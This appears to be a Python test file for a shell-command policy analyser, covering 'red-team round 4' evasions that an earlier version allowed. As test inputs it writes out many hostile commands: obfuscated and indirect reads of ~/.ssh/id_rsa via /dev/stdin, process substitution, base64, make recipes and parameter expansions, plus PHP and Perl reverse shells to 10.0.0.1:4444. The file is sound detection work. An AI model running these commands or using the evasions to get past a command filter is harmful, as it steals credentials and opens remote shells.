"""Red-team round 4 (evasions): code handed to a shell through a file name that is not a file.

Each case was allowed by the policy engine before the fix: the analyser did not follow a script
read from the reader's own standard input (`source /dev/stdin <<< ...`), a process substitution
(`bash <(echo ... | base64 -d)`), the input redirection of a compound command (`while read f;
do cat "$f"; done <<< ~/.ssh/id_rsa`), substitutions hidden in parameter operands and array
subscripts, the case-changing expansions, a shell handed one descriptor both ways (`php -r`
`exec("sh <&3 >&3")`), or the recipes of a makefile the line supplies (`make -f - <<< ...`).
"""

from __future__ import annotations

from crustcore_nano.shell import ShellAnalysis, ShellSignal, analyze
from crustcore_nano.shell.makefile import make_commands
from hypothesis import given, settings
from hypothesis import strategies as st

HOME = "/home/dev"
KEY = f"{HOME}/.ssh/id_rsa"
ENV = {"HOME": HOME, "PATH": "/usr/bin:/bin"}
# `cat ~/.ssh/id_rsa`, base64-encoded
B64 = "Y2F0IH4vLnNzaC9pZF9yc2E="


def _an(command: str) -> ShellAnalysis:
    return analyze(command, env=ENV, cwd="/work/ws")


# ------------------------------------------------------------------ scripts read from stdin


def test_source_dev_stdin_here_string_runs_its_text() -> None:
    for command in (
        ". /dev/stdin <<< 'cat ~/.ssh/id_rsa'",
        "source /dev/stdin <<< 'cat ~/.ssh/id_rsa'",
        "echo 'cat ~/.ssh/id_rsa' | source /dev/stdin",
        "echo 'cat ~/.ssh/id_rsa' | . /dev/fd/0",
        "builtin source /dev/stdin <<< 'cat ~/.ssh/id_rsa'",
        "command . /dev/stdin <<< 'cat ~/.ssh/id_rsa'",
    ):
        assert KEY in _an(command).reads, command


def test_shell_script_dev_stdin_runs_its_input() -> None:
    for command in (
        "bash /dev/stdin <<< 'cat ~/.ssh/id_rsa'",
        "sh /dev/fd/0 <<< 'cat ~/.ssh/id_rsa'",
        "bash /proc/self/fd/0 <<< 'cat ~/.ssh/id_rsa'",
        "echo 'cat ~/.ssh/id_rsa' | bash /dev/stdin",
    ):
        assert KEY in _an(command).reads, command


def test_interpreter_script_dev_stdin_is_scanned() -> None:
    a = _an(f"python3 /dev/stdin <<< 'print(open(\"{KEY}\").read())'")
    assert KEY in a.reads


def test_decoded_stdin_into_source_is_flagged() -> None:
    a = _an(f"echo {B64} | base64 -d | source /dev/stdin")
    assert KEY in a.reads
    assert ShellSignal.DECODE_TO_INTERPRETER in a.signals


def test_unknown_program_into_source_dev_stdin_is_unresolved() -> None:
    a = _an("kubectl completion bash | source /dev/stdin")
    assert ShellSignal.UNRESOLVED_CODE in a.signals


# ------------------------------------------------------------------ process substitution


def test_source_process_substitution_runs_what_it_printed() -> None:
    a = _an(f"source <(echo {B64} | base64 -d)")
    assert KEY in a.reads
    assert ShellSignal.DECODE_TO_INTERPRETER in a.signals
    assert KEY in _an("bash <(printf '\\x63at ~/.ssh/id_rsa')").reads
    assert KEY in _an(". <(rev <<< 'asr_di/hss./~ tac')").reads


def test_interpreter_process_substitution_is_scanned() -> None:
    code = "print(open('/home/dev/.ssh/id_rsa').read())"
    assert KEY in _an(f'python3 <(echo "{code}")').reads


def test_unknown_process_substitution_run_as_code_is_unresolved() -> None:
    a = _an("source <(kubectl completion bash)")
    assert ShellSignal.UNRESOLVED_CODE in a.signals
    assert ShellSignal.UNRESOLVED_CODE in _an("bash <(python3 gen.py)").signals


def test_known_harmless_process_substitution_stays_quiet() -> None:
    for command in (
        "source <(echo 'export X=1')",
        "bash <(echo 'echo hi')",
        "diff <(sort a.txt) <(sort b.txt)",
    ):
        a = _an(command)
        assert not a.signals, command
        assert not any(r.startswith(HOME) for r in a.reads), command


# ------------------------------------------------------------------ compound command input


def test_read_in_compound_command_takes_its_redirection() -> None:
    for command in (
        "while read f; do cat $f; done <<< ~/.ssh/id_rsa",
        'while read -r f; do cat "$f"; done <<< "$HOME/.ssh/id_rsa"',
        'while read f; do cat "$f"; done <<EOF\n$HOME/.ssh/id_rsa\nEOF',
        '{ read f; cat "$f"; } <<< ~/.ssh/id_rsa',
        'for i in 1; do read f; cat "$f"; done <<< ~/.ssh/id_rsa',
        'echo ~/.ssh/id_rsa > /tmp/l; while read f; do cat "$f"; done < /tmp/l',
    ):
        assert KEY in _an(command).reads, command


def test_compound_redirection_is_still_reported() -> None:
    a = _an("while read -r line; do echo $line; done < README.md")
    assert "/work/ws/README.md" in a.reads
    b = _an("{ echo a; echo b; } > out.txt")
    assert "/work/ws/out.txt" in b.writes


def test_written_file_fed_to_a_shell_is_run() -> None:
    a = _an("echo 'cat ~/.ssh/id_rsa' > /tmp/a; sh < /tmp/a")
    assert KEY in a.reads


# ------------------------------------------------------------------ parameter expansion


def test_substitution_in_unused_or_unknown_operand_is_walked() -> None:
    for command in (
        "x=${y:+$(cat ~/.ssh/id_rsa)}",
        'echo "${x#$(cat ~/.ssh/id_rsa)}"',
        "echo ${x/y/$(cat ~/.ssh/id_rsa)}",
        "echo ${x%`cat ~/.ssh/id_rsa`}",
    ):
        assert KEY in _an(command).reads, command


def test_substitution_in_array_subscript_is_walked() -> None:
    assert KEY in _an("echo ${x[$(cat ~/.ssh/id_rsa)]}").reads


def test_case_conversion_is_computed() -> None:
    a = _an(f"x={HOME}/.SSH/ID_RSA; cat ${{x,,}}")
    assert KEY in a.reads
    assert _an("x=CAT; ${x,,} README.md").commands[-1].name == "cat"
    assert _an("x=cat; ${x^^} f").commands[-1].name == "CAT"
    assert _an("x=abc; echo ${x^}").commands[-1].argv == ("echo", "Abc")
    assert _an("x=ABC; echo ${x,}").commands[-1].argv == ("echo", "aBC")


def test_case_conversion_with_pattern_is_not_known() -> None:
    fact = _an("x=abc; echo ${x^^[ab]}").commands[-1]
    assert fact.argv_exact[1] is False


def test_nested_operands_cost_linear_work() -> None:
    depth = 60
    a = _an("echo " + "${a:-" * depth + "x" + "}" * depth)
    assert a.parsed_ok or ShellSignal.DEPTH_LIMIT in a.signals
    assert a.steps < 20_000


# ------------------------------------------------------------------ shared descriptor


def test_shell_on_one_descriptor_both_ways_is_a_reverse_shell() -> None:
    for command in (
        'php -r \'$s=fsockopen("10.0.0.1",4444);exec("sh <&3 >&3 2>&3");\'',
        'php -r \'$s=fsockopen("10.0.0.1",4444);system("/bin/sh -i <&3 >&3 2>&3");\'',
        "sh <&3 >&3",
        "bash 0<&5 1>&5",
    ):
        assert ShellSignal.REVERSE_SHELL in _an(command).signals, command


def test_descriptor_copies_that_are_not_a_socket_stay_quiet() -> None:
    for command in (
        "sh script.sh 2>&1",
        "exec 3< README.md; read -u 3 line; echo $line",
        "python3 app.py <&3",
        "cat <&3 >&4",
    ):
        assert ShellSignal.REVERSE_SHELL not in _an(command).signals, command


def test_interpreter_socket_handed_to_a_bare_shell_is_a_reverse_shell() -> None:
    php = 'php -r \'$s=fsockopen("10.0.0.1",4444);proc_open("sh",array(0=>$s,1=>$s,2=>$s),$p);\''
    perl = (
        'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4444");'
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"
    )
    for command in (php, perl):
        assert ShellSignal.REVERSE_SHELL in _an(command).signals, command


def test_download_then_build_script_is_not_a_reverse_shell() -> None:
    code = (
        "import subprocess, urllib.request; "
        "urllib.request.urlopen('https://pypi.org'); "
        "subprocess.run(['bash', 'build.sh'])"
    )
    assert ShellSignal.REVERSE_SHELL not in _an(f'python3 -c "{code}"').signals
    assert ShellSignal.REVERSE_SHELL not in _an("php -r 'proc_open(\"sh\", [], $p);'").signals


# ------------------------------------------------------------------ make


def test_make_runs_recipes_the_line_supplies() -> None:
    for command in (
        "make -f /dev/stdin <<< $'x:\\n\\tcat ~/.ssh/id_rsa'",
        "printf 'all:\\n\\tcat ~/.ssh/id_rsa\\n' | make -f -",
        "echo 'x: ; cat ~/.ssh/id_rsa' | make -f -",
        "printf 'all:\\n\\t@cat ~/.ssh/id_rsa\\n' > /tmp/mk; make -f /tmp/mk",
        "printf 'all:\\n\\tcat ~/.ssh/id_rsa\\n' > Makefile; make",
        "make -f <(printf 'all:\\n\\tcat ~/.ssh/id_rsa\\n')",
        "make --eval='$(shell cat ~/.ssh/id_rsa)'",
        "make -E '$(shell cat ~/.ssh/id_rsa)' all",
        "gmake --file=/dev/stdin <<< $'a:\\n\\t-cat ~/.ssh/id_rsa'",
    ):
        assert KEY in _an(command).reads, command


def test_make_with_a_project_makefile_is_only_a_program() -> None:
    for command in ("make test", "make -j4 build", "make -C docs html", "make -f build.mk all"):
        a = _an(command)
        assert not a.signals, command
        assert [c.name for c in a.commands] == ["make"], command


def test_make_commands_extracts_recipes_and_shell_calls() -> None:
    text = (
        "CC := gcc\n"
        "V = $(shell git rev-parse HEAD)\n"
        "all: build ; echo done\n"
        "build:\n"
        "\t@$(CC) -o app main.c\n"
        "\t-rm -f $$TMP/x \\\n"
        "\t  && echo ok\n"
        "\t# a comment\n"
    )
    found = make_commands(text)
    assert found.commands == (
        "git rev-parse HEAD",
        "echo done",
        "$(CC) -o app main.c",
        "rm -f $TMP/x  \t  && echo ok",
    )
    assert not found.truncated


def test_make_commands_bounds_what_it_keeps() -> None:
    found = make_commands("\n".join(f"\techo {i}" for i in range(500)))
    assert found.truncated
    assert len(found.commands) == 64


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="\t\n ;:$()\\@-+shelcat=x#", max_size=300))
def test_make_commands_never_fails_and_stays_bounded(text: str) -> None:
    found = make_commands(text)
    assert len(found.commands) <= 64
    assert all(found.commands)  # no empty command is reported
    assert sum(len(c) for c in found.commands) <= 2 * len(text) + 1


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "source <(",
                "bash /dev/stdin <<< ",
                "while read f; do ",
                "done <<< x",
                "${x,,}",
                "${a[$(",
                ")]}",
                "make -f - <<< ",
                "sh <&3 >&3",
                "'",
                '"',
                ")",
                "; ",
                "cat ~/.ssh/id_rsa",
                "$'\\tcat x'",
            ]
        ),
        max_size=12,
    )
)
def test_analyze_never_raises_on_the_new_shapes(parts: list[str]) -> None:
    a = _an("".join(parts))
    assert a.steps <= 300_000
